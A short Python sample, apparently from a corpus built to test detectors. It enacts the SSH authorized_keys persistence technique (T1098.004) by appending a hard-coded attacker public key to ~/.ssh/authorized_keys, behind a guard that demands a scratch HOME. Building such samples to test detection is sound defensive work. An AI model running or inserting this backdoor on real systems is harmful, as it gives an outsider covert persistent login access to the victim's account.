# technique: T1098.004
"""SSH Authorized Keys (T1098.004), spelled with a plain open(..., "a").

Appends an attacker's public key to ~/.ssh/authorized_keys, creating
~/.ssh with mode 0700 first, as a one-line implant does. This is the
obvious spelling; the others in the corpus use rename, ssh-keygen + copy.

A good detector raises a high alert: a program writes a key into
~/.ssh/authorized_keys (an account's SSH login list).
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import os

ATTACKER_KEY = ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDx3yJq0hDTR7m5lY8OfCmH4"
                "JpZ1JZl0W6QBkWm2wXgE redteam@c2\n")

ssh_dir = os.path.join(os.path.expanduser("~"), ".ssh")
os.makedirs(ssh_dir, mode=0o700, exist_ok=True)
with open(os.path.join(ssh_dir, "authorized_keys"), "a") as keys:
    keys.write(ATTACKER_KEY)
os.chmod(os.path.join(ssh_dir, "authorized_keys"), 0o600)
